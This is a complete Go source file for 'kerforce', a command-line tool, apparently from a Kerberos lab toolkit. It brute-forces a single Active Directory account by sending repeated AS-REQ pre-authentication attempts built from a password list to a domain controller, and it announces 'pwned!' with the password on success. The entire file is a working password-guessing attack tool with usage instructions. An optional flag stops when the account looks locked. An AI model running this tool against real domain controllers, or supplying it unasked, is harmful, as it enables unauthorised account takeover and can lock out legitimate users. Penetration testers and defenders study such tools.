// Command kerforce brute-forces a single Active Directory account against
// a password list via repeated AS exchanges, stopping as soon as one
// succeeds.
//
// Usage:
//
//	kerforce -dc 10.0.0.10 -domain CONTOSO.COM -username alice -file passwords.txt -safe
package main

import (
	"bufio"
	"context"
	"flag"
	"fmt"
	"net"
	"os"
	"strconv"
	"time"

	"github.com/smnsjas/go-kerlab/internal/cliutil"
	"github.com/smnsjas/go-kerlab/kerrors"
	"github.com/smnsjas/go-kerlab/krb5"
	"github.com/smnsjas/go-kerlab/transport"
)

// errorCodeAccountLocked is KRB-ERROR's error-code for a disabled/locked
// account (RFC 1510 §8); -safe stops the run as soon as it is observed so
// the remaining candidates in the list don't push the lockout further.
const errorCodeAccountLocked = 18

func main() {
	dc := flag.String("dc", "", "host IP of the Domain Controller")
	port := flag.Int("port", 88, "Domain Controller Kerberos port")
	domain := flag.String("domain", "", "Windows Domain")
	username := flag.String("username", "", "Username to brute-force")
	file := flag.String("file", "", "File containing one candidate password per line")
	safe := flag.Bool("safe", false, "Stop as soon as the account looks locked")
	udp := flag.Bool("udp", false, "Use UDP instead of TCP")
	timeout := flag.Duration("timeout", 10*time.Second, "Per-attempt exchange timeout")
	logLevel := flag.String("loglevel", "", "Log level: debug, info, warn, error (empty means warn)")
	logFile := flag.String("logfile", "", "Rotating log file path (default: stderr)")
	flag.Parse()

	if err := cliutil.SetupLogger(*logLevel, *logFile); err != nil {
		fmt.Fprintf(os.Stderr, "logging: %v\n", err)
		os.Exit(1)
	}

	if *dc == "" || *domain == "" || *username == "" || *file == "" {
		fmt.Fprintln(os.Stderr, "usage: kerforce -dc <ip> -domain <domain> -username <user> -file <passwords>")
		os.Exit(1)
	}

	f, err := os.Open(*file)
	if err != nil {
		fmt.Fprintf(os.Stderr, "open %s: %v\n", *file, err)
		os.Exit(1)
	}
	defer f.Close()

	addr := net.JoinHostPort(*dc, strconv.Itoa(*port))
	options := []krb5.KDCOption{krb5.OptRenewable, krb5.OptRenewableOk}
	exchange := transport.Exchange
	if *udp {
		exchange = transport.ExchangeUDP
	}

	fmt.Printf("brute-forcing %s\\%s against %s\n", *domain, *username, addr)

	scanner := bufio.NewScanner(f)
	for scanner.Scan() {
		password := scanner.Text()
		if password == "" {
			continue
		}

		req, err := krb5.NewASReq(*domain, *username, options...)
		if err != nil {
			fmt.Fprintf(os.Stderr, "build AS-REQ: %v\n", err)
			os.Exit(1)
		}
		req, err = req.WithPreauth(krb5.NewEncryptionKeyRC4HMAC(password))
		if err != nil {
			fmt.Fprintf(os.Stderr, "add preauth: %v\n", err)
			os.Exit(1)
		}

		ctx, cancel := context.WithTimeout(context.Background(), *timeout)
		var asRep krb5.AsRep
		krbErr, err := exchange(ctx, addr, req.Marshal(), &asRep)
		cancel()
		if err != nil {
			if kerrors.IsIO(err) {
				fmt.Fprintf(os.Stderr, "network error, aborting: %v\n", err)
				os.Exit(1)
			}
			fmt.Printf("failed %q: %v\n", password, err)
			continue
		}
		if krbErr != nil {
			fmt.Printf("failed %q: %s\n", password, krbErr)
			if *safe && krbErr.ErrorCode == errorCodeAccountLocked {
				fmt.Println("account appears locked, stopping")
				break
			}
			continue
		}

		fmt.Printf("pwned! %s\\%s : %s\n", *domain, *username, password)
		return
	}
	if err := scanner.Err(); err != nil {
		fmt.Fprintf(os.Stderr, "read %s: %v\n", *file, err)
		os.Exit(1)
	}
}
